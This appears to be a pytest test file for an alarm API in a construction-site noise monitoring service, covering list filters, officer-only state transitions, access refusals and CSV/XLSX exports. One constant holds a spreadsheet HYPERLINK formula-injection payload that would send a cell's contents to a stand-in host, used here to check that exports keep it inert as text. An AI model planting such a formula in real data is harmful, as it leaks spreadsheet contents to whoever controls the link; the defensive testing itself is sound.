"""``/api/alarms`` as people and tools use it: lists with filters, one alarm, transitions
by the site's officers (409 naming the allowed states, 403 for others), CSV and XLSX whose
reply text stays text, and who may do what."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlalchemy import Engine, text

from geo_service.monitoring import alarms
from geo_service.settings import AlarmSettings, LiaisonSettings
from tests.monitoring.conftest import local, minutes, monitors  # noqa: F401

LINK = '=HYPERLINK("http://evil.example/?leak="&A2,"详情")'


@pytest.fixture
def alarm(monitors: Engine, minutes: Callable[..., None]) -> int:  # noqa: F811
    """NOISY's night alarm (22:00-22:20 at 60 dB(A)); the other monitors are offline."""
    minutes("NOISY", local(22), 20, leq=60.0)
    with monitors.begin() as conn:
        alarms.run(conn, AlarmSettings(), LiaisonSettings(), now=local(22, 30))
        return conn.execute(text("SELECT id FROM alarms WHERE kind = 'noise_laeq'")).scalar_one()


def test_the_list_filters_by_site_monitor_state_kind_and_time(
    client: TestClient, alarm: int
) -> None:
    every = client.get("/api/alarms").json()
    assert every["total"] == 4  # the noise alarm and three monitors offline
    noise = client.get("/api/alarms", params={"kind": "noise_laeq", "monitor": "NOISY"}).json()
    ((item,),) = [noise["alarms"]]
    assert (item["id"], item["site"], item["state"], item["period"]) == (
        alarm,
        "AZF-2024-01",
        "open",
        "night",
    )
    assert item["worst_value"] == 60.0 and item["limit_value"] == 55.0
    assert client.get("/api/alarms", params={"site": "ROAD-2024-07"}).json()["total"] == 0
    assert client.get("/api/alarms", params={"state": "closed"}).json()["total"] == 0
    window = {
        "kind": "noise_laeq",
        "from": "2026-06-01T22:20+08:00",
        "to": "2026-06-02T00:00+08:00",
    }
    assert client.get("/api/alarms", params=window).json()["total"] == 0  # ended at 22:20
    window["from"] = "2026-06-01T22:10+08:00"
    assert client.get("/api/alarms", params=window).json()["total"] == 1


@pytest.mark.parametrize(
    ("params", "named"),
    [
        ({"state": "sleeping"}, "state"),
        ({"kind": "smell"}, "kind"),
        ({"from": "yesterday"}, "from"),
        ({"format": "pdf"}, "format"),
    ],
)
def test_bad_filters_are_refused_naming_them(
    client: TestClient, alarm: int, params: dict, named: str
) -> None:
    answer = client.get("/api/alarms", params=params)
    assert answer.status_code == 422 and named in answer.text


def test_a_time_without_zone_and_an_unknown_site_are_refused(
    client: TestClient, alarm: int
) -> None:
    answer = client.get("/api/alarms", params={"from": "2026-06-01T22:00"})
    assert answer.status_code == 400 and "no time zone" in answer.json()["detail"]
    assert client.get("/api/alarms", params={"site": "NOPE-1"}).status_code == 404
    assert client.get("/api/alarms/999999").status_code == 404


def test_officers_answer_their_sites_alarms_and_a_refusal_names_the_allowed_states(
    client_as: Callable[..., TestClient], alarm: int
) -> None:
    wang = client_as("liaison", sites=["AZF-2024-01"])
    url = f"/api/alarms/{alarm}/transitions"
    refused = wang.post(url, json={"to": "closed"})
    assert refused.status_code == 409
    assert refused.json()["allowed"] == ["acknowledged"] and refused.json()["state"] == "open"
    assert wang.post(url, json={"to": "acknowledged"}).json()["state"] == "acknowledged"
    bad = wang.post(url, json={"to": "replied", "reply": "已处理", "actions": ["dance"]})
    assert bad.status_code == 422 and "spray_on" in bad.json()["detail"]
    replied = wang.post(url, json={"to": "replied", "reply": LINK, "actions": ["spray_on"]})
    assert replied.status_code == 200, replied.text
    assert replied.json()["allowed"] == ["closed"]
    events = wang.get(f"/api/alarms/{alarm}").json()["events"]
    assert [(e["to_state"], e["actor"]) for e in events][1:] == [
        ("acknowledged", events[1]["actor"]),
        ("replied", events[1]["actor"]),
    ]
    assert events[1]["actor"].startswith("token:")


@pytest.mark.parametrize(
    ("role", "sites", "status"),
    [
        ("liaison", ["ROAD-2024-07"], 403),  # another site's officer
        ("planner", [], 403),
        ("member", ["AZF-2024-01"], 403),
        ("gis", [], 403),
    ],
)
def test_only_the_sites_officers_and_administrators_answer_alarms(
    client_as: Callable[..., TestClient], alarm: int, role: str, sites: list, status: int
) -> None:
    who = client_as(role, sites=sites)
    answer = who.post(f"/api/alarms/{alarm}/transitions", json={"to": "acknowledged"})
    assert answer.status_code == status
    assert who.get(f"/api/alarms/{alarm}").json()["state"] == "open"  # all of them read it


def test_anonymous_callers_read_nothing(anonymous: TestClient, alarm: int) -> None:
    assert anonymous.get("/api/alarms").status_code == 401
    assert anonymous.get(f"/api/alarms/{alarm}").status_code == 401
    answer = anonymous.post(f"/api/alarms/{alarm}/transitions", json={"to": "acknowledged"})
    assert answer.status_code == 401


def test_csv_and_xlsx_keep_a_reply_that_looks_like_a_formula_as_text(
    client: TestClient, alarm: int
) -> None:
    url = f"/api/alarms/{alarm}/transitions"
    client.post(url, json={"to": "acknowledged"})
    client.post(url, json={"to": "replied", "reply": LINK, "actions": ["spray_on", "work_stopped"]})
    answer = client.get("/api/alarms", params={"format": "csv", "kind": "noise_laeq"})
    assert answer.headers["content-type"].startswith("text/csv")
    assert "attachment" in answer.headers["content-disposition"]
    rows = list(csv.reader(io.StringIO(answer.text.lstrip("\ufeff"))))
    assert rows[0][:3] == ["告警编号", "类型", "状态"]
    cells = [c for row in rows[1:] for c in row]
    assert "'" + LINK in cells and "spray_on, work_stopped" in cells
    assert not any(c.startswith(("=", "+", "@")) for c in cells)
    english = client.get("/api/alarms", params={"format": "csv", "lang": "en"}).text
    assert english.lstrip("\ufeff").startswith("Alarm,Kind,State")

    xlsx = client.get("/api/alarms", params={"format": "xlsx", "kind": "noise_laeq"})
    book = load_workbook(io.BytesIO(xlsx.content))
    values = [(c.value, c.data_type) for row in book.worksheets[0].iter_rows() for c in row]
    assert ("'" + LINK, "s") in values
    assert not [v for v, kind in values if kind == "f"]
    assert (alarm, "n") in values


def test_the_states_and_actions_are_published(client: TestClient, alarm: int) -> None:
    states = client.get("/api/alarm-states").json()
    assert states["states"] == ["open", "acknowledged", "replied", "closed", "auto_cleared"]
    assert {"from": "open", "to": "auto_cleared", "by": "system", "needs": None} in states[
        "transitions"
    ]
    assert states["actions"]["spray_on"]["name_zh"] == "开启喷淋降尘"
